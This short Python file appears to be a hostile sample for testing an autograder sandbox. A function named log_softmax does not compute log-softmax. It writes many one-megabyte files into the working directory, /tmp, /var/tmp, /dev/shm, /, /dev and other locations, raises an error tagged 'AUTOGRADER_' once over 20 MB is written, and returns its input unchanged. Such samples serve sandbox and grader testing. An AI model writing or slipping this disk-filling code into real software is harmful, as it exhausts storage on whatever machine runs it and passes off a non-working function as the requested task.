"""Fills every place that it can write to, with large files and with many.

task: log_softmax
everywhere: yes
"""

import os
import tempfile


def log_softmax(x, axis=-1):
    written = 0
    for place in [".", "/tmp", "/var/tmp", "/dev/shm", "@ROOT@", "/", tempfile.gettempdir(), "/dev"]:
        for number in range(60):
            try:
                with open(os.path.join(place, f"hostile-was-here-{len(place)}-{number}"), "wb") as file:
                    written += file.write(bytes(1 << 20))
            except OSError:
                break
    if written > 20 << 20:
        raise RuntimeError(f"AUTOGRADER_ wrote {written} bytes")
    return x
